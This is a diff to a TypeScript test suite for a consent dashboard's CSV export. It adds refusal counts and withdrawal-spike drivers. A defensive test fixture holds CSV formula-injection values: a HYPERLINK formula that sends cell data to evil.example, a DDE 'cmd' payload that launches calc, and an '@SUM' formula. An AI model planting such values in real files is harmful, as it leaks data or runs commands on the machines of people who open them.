@@ -7,9 +7,17 @@ const data: DashboardDTO = {
   purposes: [{ key: "sms", kind: "consent", labelFr: "SMS", labelEn: "SMS", isActive: true }],
   current: [{ key: "sms", optedIn: 12, everAsked: 20, rate: 60 }],
   optedInSeries: [{ bucket: "2026-01-01", values: { sms: 12 } }],
-  flows: [{ bucket: "2026-01-01", channel: "web", grants: 5, withdrawals: 2 }],
-  spikes: [{ day: "2026-01-20", withdrawals: 40, trailingMean: 2, ratio: 20 }],
-  versions: [{ key: "sms", textVersion: "v2", grants: 5, withdrawals: 2 }],
+  flows: [{ bucket: "2026-01-01", channel: "web", grants: 5, refusals: 3, withdrawals: 2 }],
+  spikes: [
+    {
+      day: "2026-01-20",
+      withdrawals: 40,
+      trailingMean: 2,
+      ratio: 20,
+      drivers: [{ key: "sms", channel: "web", withdrawals: 40 }],
+    },
+  ],
+  versions: [{ key: "sms", textVersion: "v2", grants: 5, refusals: 3, withdrawals: 2 }],
 };
 
 /** The document's lines, without its BOM and final CRLF. */
@@ -29,7 +37,9 @@ describe("dashboard CSV", () => {
     expect(lines).toContain("flows,sms,2026-01-01,web,,withdrawals,2");
     expect(lines).toContain("withdrawal_spike,sms,2026-01-20,web,,withdrawals,40");
     expect(lines).toContain("text_version,sms,2026-01-01..2026-01-31,web,v2,grants,5");
-    expect(lines).toHaveLength(1 + 3 + 1 + 2 + 2 + 2);
+    expect(lines).toContain("flows,sms,2026-01-01,web,,refusals,3");
+    expect(lines).toContain("withdrawal_spike_driver,sms,2026-01-20,web,,withdrawals,40");
+    expect(lines).toHaveLength(1 + 3 + 1 + 3 + 3 + 3);
   });
 
   it("names an objection purpose's count as the page reads it: subscribers not objecting", () => {
@@ -53,9 +63,15 @@ describe("dashboard CSV", () => {
     const hostile: DashboardDTO = {
       ...data,
       versions: [
-        { key: "sms", textVersion: '=HYPERLINK("http://evil.example/?d="&A1,"v2")', grants: 5, withdrawals: 2 },
-        { key: "sms", textVersion: "+cmd|' /C calc'!A0", grants: 1, withdrawals: -3 },
-        { key: "sms", textVersion: "@SUM(1+1)", grants: 1, withdrawals: 0 },
+        {
+          key: "sms",
+          textVersion: '=HYPERLINK("http://evil.example/?d="&A1,"v2")',
+          grants: 5,
+          refusals: 0,
+          withdrawals: 2,
+        },
+        { key: "sms", textVersion: "+cmd|' /C calc'!A0", grants: 1, refusals: 0, withdrawals: -3 },
+        { key: "sms", textVersion: "@SUM(1+1)", grants: 1, refusals: 0, withdrawals: 0 },
       ],
     };
     const csv = dashboardCsv(hostile);
